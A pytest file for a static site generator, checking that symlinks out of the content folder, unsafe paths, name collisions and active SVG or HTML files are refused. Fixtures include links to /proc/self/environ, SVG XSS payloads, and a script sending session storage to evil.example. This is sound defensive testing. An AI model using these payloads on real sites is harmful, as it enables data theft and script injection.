"""Nothing outside the programme is published: links in content/ and in circle folders."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from click.testing import CliRunner
from conftest import VALID_CIRCLE
from private_support import private

from circlepress.cli import main

PRIVATE_CIRCLE = private(VALID_CIRCLE.replace("Test Circle", "Secret Roster"), "lab-a")


def _run(root: Path, *args: str):
    return CliRunner().invoke(main, [*args, "--root", str(root)])


def _project(make_site) -> Path:
    root = make_site({"content/index.md": "---\ntitle: Home\n---\nHello\n",
                      "content/agreement.md": "---\ntitle: Agreement\n---\nWhat is said here stays here.\n",
                      "sites/lab-a/circle.yaml": PRIVATE_CIRCLE,
                      "outside/notes.md": "---\ntitle: Leaked\n---\nOutside the project\n"})
    (root / ".gitignore").write_text("/.circlepress/\n")
    return root


def test_links_out_of_content_are_located_errors_and_nothing_is_published(make_site):
    root = _project(make_site)
    os.symlink("/proc/self/environ", root / "content/env.txt")
    os.symlink("../sites/lab-a/circle.yaml", root / "content/roster.yaml")
    os.symlink(root / "outside", root / "content/linked-folder")
    for command in ("check", "build"):
        result = _run(root, command)
        assert result.exit_code == 1, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        for name in ("content/env.txt", "content/roster.yaml"):
            line = next((l for l in result.output.splitlines() if l.startswith(f"{name}:1:1: is a link to ")), None)
            assert line and "outside content/" in line and line.endswith("instead of linking to it)"), result.output
        assert "content/linked-folder:1:1: is a link to " in result.output, result.output
    assert not (root / "_site").exists()
    for name in ("env.txt", "roster.yaml", "linked-folder"):
        (root / "content" / name).unlink()
    assert _run(root, "build").exit_code == 0
    published = b"".join(p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file())
    assert b"Outside the project" not in published and b"Secret Roster" not in published


def test_a_circle_page_linking_out_of_its_folder_is_an_error(make_site):
    root = _project(make_site)
    os.symlink(root / "outside/notes.md", root / "sites/lab-a/notes.md")
    result = _run(root, "build")
    assert result.exit_code == 1
    assert "sites/lab-a/notes.md:1:1: is a link to " in result.output and "outside lab-a/" in result.output
    assert not (root / "_site").exists()


def test_a_linked_circle_folder_and_links_inside_it_still_work(make_site, tmp_path):
    root = _project(make_site)
    target = tmp_path / "kept-elsewhere"
    (root / "sites/lab-a").rename(target)
    os.symlink(target, root / "sites/lab-a")
    (target / "notes.md").write_text("---\ntitle: Notes\n---\nReading list\n")
    os.symlink("notes.md", target / "more.md")
    result = _run(root, "build")
    assert result.exit_code == 0, result.output


def test_a_name_ending_in_a_newline_is_refused(make_site):
    """Names are checked whole: a `$` with `match` let a trailing newline through."""
    root = make_site({"content/agreement.md": "---\ntitle: Agreement\n---\nKept here.\n",
                      "sites/lab-a/circle.yaml": VALID_CIRCLE})
    (root / "sites/lab-a").rename(root / "sites/lab-a\n")
    result = _run(root, "check")
    assert result.exit_code == 1 and "is not a safe URL segment" in result.output, result.output


def test_a_folder_linked_into_content_is_reported_not_skipped(make_site):
    """A linked folder is never walked, even one pointing inside content/: it is reported, not silently left out."""
    root = _project(make_site)
    (root / "content/guides").mkdir()
    os.symlink("guides", root / "content/alias")
    os.symlink("missing.txt", root / "content/dangling.txt")
    result = _run(root, "check")
    assert result.exit_code == 1
    assert "content/alias:1:1: is a link to the folder 'guides', which is not followed, so nothing in it is " \
           "published (copy the folder into content/ instead of linking to it)" in result.output, result.output
    assert "content/dangling.txt:1:1: is a link to 'missing.txt', which does not lead to a file, so it is not " \
           "published (copy it into content/ instead of linking to it)" in result.output


@pytest.mark.parametrize("setting, message", [
    ("content: sites", "circlepress.yaml:1:10: the content folder 'sites' overlaps sites/"),
    ("content: sites/lab-a", "circlepress.yaml:1:10: the content folder 'sites/lab-a' overlaps sites/"),
    ("content: .", "circlepress.yaml:1:10: the content folder '.' overlaps sites/"),
    ("content: .git", "circlepress.yaml:1:10: the content folder '.git' overlaps .git/"),
    ("content: .circlepress", "circlepress.yaml:1:10: the content folder '.circlepress' overlaps .circlepress/"),
    ("content: _site", "circlepress.yaml:1:10: the content folder '_site' overlaps the output folder _site/"),
    ("output: content/out", "circlepress.yaml:1:9: the content folder 'content' overlaps the output folder content/out/"),
    ("content: ..", "circlepress.yaml:1:10: the content folder '..' is outside the project"),
])
def test_a_content_setting_onto_what_is_never_published_is_refused(make_site, setting, message):
    root = _project(make_site)
    for folder in (".git", ".circlepress", "_site", "content/out"):
        (root / folder).mkdir(exist_ok=True)
    (root / "circlepress.yaml").write_text(setting + "\n")
    for command in ("check", "build"):
        result = _run(root, command)
        assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
        assert message in result.output, result.output


def test_a_content_or_theme_folder_linked_out_of_the_project_is_refused(make_site, tmp_path):
    root = _project(make_site)
    (tmp_path / "elsewhere/static").mkdir(parents=True)
    (root / "content").rename(tmp_path / "content-elsewhere")
    os.symlink(tmp_path / "content-elsewhere", root / "content")
    (root / "themes").mkdir()
    os.symlink(tmp_path / "elsewhere", root / "themes/mine")
    (root / "circlepress.yaml").write_text("theme: mine\n")
    result = _run(root, "check")
    assert result.exit_code == 1
    assert "content:1:1: the content folder 'content' is outside the project" in result.output, result.output
    assert "circlepress.yaml:1:8: the theme folder 'themes/mine' is outside the project (make it a folder of its " \
           "own inside the project, not a link)" in result.output


def test_theme_static_files_linking_out_of_the_theme_are_refused(make_site):
    root = _project(make_site)
    static = root / "themes/mine/static"
    static.mkdir(parents=True)
    (static / "kept.css").write_text("body { color: black }\n")
    os.symlink("kept.css", static / "alias.css")  # inside the theme: fine
    os.symlink("/proc/self/environ", static / "env.txt")
    os.symlink("../../../sites/lab-a/circle.yaml", static / "roster.txt")
    (root / "circlepress.yaml").write_text("theme: mine\n")
    for command in ("check", "build"):
        result = _run(root, command)
        assert result.exit_code == 1, result.output
        assert "themes/mine/static/env.txt:1:1: is a link to '/proc/self/environ', outside mine/" in result.output
        assert "themes/mine/static/roster.txt:1:1: is a link to '../../../sites/lab-a/circle.yaml', outside mine/" \
               in result.output
    assert not (root / "_site").exists()
    (static / "env.txt").unlink()
    (static / "roster.txt").unlink()
    assert _run(root, "build").exit_code == 0
    assert (root / "_site/assets/alias.css").read_text() == "body { color: black }\n"


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize("body, message", [
    ('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>', "1:84: the SVG holds a script"),
    ('<g ONMOUSEOVER="alert(1)"/>', "1:84: the SVG has the event handler ONMOUSEOVER= on <g>"),
    ('<a xlink:href=" javascript:alert(1)"><text>x</text></a>', "1:84: <a> refers to ' javascript:alert(1)'"),
    ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', "1:84: <image> refers to 'data:image/svg+xml"),
    ('<image src="//evil.example/p.png"/>', "1:84: <image> refers to '//evil.example/p.png'"),
    ('<rect filter="url( \'https://evil.example/f.svg#f\' )"/>', "1:84: the filter= of <rect> refers to "),
    ('<rect style="fill: u\\72l(https://evil.example/p)"/>', "1:84: the style= of <rect> uses a CSS escape"),
    ('<style>rect { background: image-set("https://evil.example/p.png" 1x) }</style>', "1:84: a <style> uses image-set"),
    ('<animate attributeName="xlink:href" values="javascript:alert(1)"/>', "1:84: <animate> animates xlink:href="),
    ('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="#"/>', "1:84: the SVG holds the HTML element <iframe>"),
    ('<set attributeName="onmouseover" to="alert(1)"/>', "1:84: <set> animates onmouseover="),
    ('<set attributeName="style" to="fill: u\\72l(https://evil.example/p)"/>', "1:84: the to= of <set> uses a CSS"),
    ('<g xml:base="https://evil.example/"><use href="#a"/></g>', "1:84: <g> refers to 'https://evil.example/'"),
])
def test_an_svg_that_could_run_or_reach_out_is_refused_at_its_element(tmp_path, body, message):
    from circlepress.programme.inert import inert_problems
    path = tmp_path / "x.svg"
    path.write_text(SVG_OPEN + body + "</svg>")
    found = [p.format() for p in inert_problems(path, "content/x.svg")]
    assert any(line.startswith("content/x.svg:" + message) for line in found), found


def test_inert_files_are_published_and_an_active_one_stops_the_build(make_site):
    root = _project(make_site)
    files = {"logo.svg": SVG_OPEN.encode() + b'<defs><linearGradient id="g"/></defs><circle r="4" fill="url(#g)"/>'
             b'<image href="data:image/png;base64,iVBORw0KGgo="/><a href="#g"><text>x</text></a></svg>',
             "photo.PNG": b"\x89PNG\r\n\x1a\n...", "handout.pdf": b"%PDF-1.7\n", "roles.csv": b"name,role\n",
             "sheet.xlsx": b"PK\x03\x04...", "pic.webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
             "pic.avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"}
    for name, data in files.items():
        (root / "content" / name).write_bytes(data)
    for hidden in ("_drafts/steal.html", ".env", "_notes.js"):  # hidden and underscore names stay unpublished
        (root / "content" / hidden).parent.mkdir(exist_ok=True)
        (root / "content" / hidden).write_text("<script>CIRCLEPRESS_SECRET</script>")
    assert _run(root, "build").exit_code == 0
    for name, data in files.items():
        assert (root / "_site" / name).read_bytes() == data
    assert not any(b"CIRCLEPRESS_SECRET" in p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file())
    before = {p: p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file()}
    (root / "content/steal.html").write_text("<script>fetch('https://evil.example/?' + sessionStorage.key(0))</script>")
    result = _run(root, "build")
    assert result.exit_code == 1 and "content/steal.html:1:1: a '.html' file is not published from content/" \
        in result.output, result.output
    assert {p: p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file()} == before


NFC, NFD = "caf\u00e9", "cafe\u0301"


def test_names_that_differ_only_in_case_or_unicode_form_are_a_collision_naming_both(make_site):
    root = _project(make_site)
    page = "---\ntitle: {}\n---\nText\n"
    for name in ("start.md", "Start.md", f"{NFC}.md", f"{NFD}.md", "guides/a.md", "Guides/b.md"):
        (root / "content" / name).parent.mkdir(exist_ok=True)
        (root / "content" / name).write_text(page.format(name))
    (root / "content/photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (root / "content/Photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (root / "sites/lab-a").rename(root / f"sites/{NFC}")
    (root / f"sites/{NFC}/circle.yaml").write_text("slug: lab-a\n" + PRIVATE_CIRCLE)
    (root / f"sites/{NFD}").mkdir()
    (root / f"sites/{NFD}/circle.yaml").write_text("slug: lab-b\n" + PRIVATE_CIRCLE)
    for command in ("check", "build"):
        result = _run(root, command)
        assert result.exit_code == 1, result.output
        case = "but for case, which case-insensitive file systems take for one name (rename one of them so that " \
               "their names differ by more than case or accents)"
        form = "written in another Unicode form (NFC, NFD), which normalising file systems take for one name"
        for line in (f"content/start.md:1:1: publishes to 'start/', the same as 'Start/' (content/Start.md) {case}",
                     f"content/guides/a.md:1:1: publishes to 'guides/', the same as 'Guides/' (content/Guides/b.md) "
                     f"{case}", f"content/photo.png:1:1: publishes to 'photo.png', the same as 'Photo.png' "
                     f"(content/Photo.png) {case}"):
            assert line in result.output, result.output
        assert f"publishes to '{NFD}/', the same as '{NFC}/' (content/{NFC}.md) {form}" in result.output \
            or f"publishes to '{NFC}/', the same as '{NFD}/' (content/{NFD}.md) {form}" in result.output
        assert f"the folder is named '{NFD}/', the same as '{NFC}/' (sites/{NFC}) {form}" in result.output \
            or f"the folder is named '{NFC}/', the same as '{NFD}/' (sites/{NFD}) {form}" in result.output
    assert not (root / "_site").exists()


def test_a_circles_extra_pages_cannot_differ_only_in_case(make_site):
    """Extra page names are lowercase ASCII (SAFE_SLUG), so 'Notes.md' beside 'notes.md' is refused by name."""
    root = _project(make_site)
    for name in ("notes.md", "Notes.md"):
        (root / "sites/lab-a" / name).write_text("---\ntitle: Notes\n---\nText\n")
    result = _run(root, "check")
    assert result.exit_code == 1 and "sites/lab-a/Notes.md:1:1: page name 'Notes' cannot be used" in result.output


def test_circle_folders_colliding_are_found_when_the_circles_are_shared_out(make_site, monkeypatch):
    from conftest import NOW

    from circlepress.build import workers as shares
    from circlepress.build.pipeline import build
    from circlepress.programme.config import load_project
    from circlepress.programme.errors import CirclepressError

    monkeypatch.setattr(shares, "SHARED_FROM", 1)
    root = _project(make_site)
    (root / "sites/Lab-A").mkdir()
    (root / "sites/Lab-A/circle.yaml").write_text("slug: lab-b\n" + PRIVATE_CIRCLE)
    with pytest.raises(CirclepressError) as info:
        build(load_project(root), now=NOW, jobs=2)
    assert "sites/lab-a:1:1: the folder is named 'lab-a/', the same as 'Lab-A/' (sites/Lab-A) but for case" \
        in str(info.value)
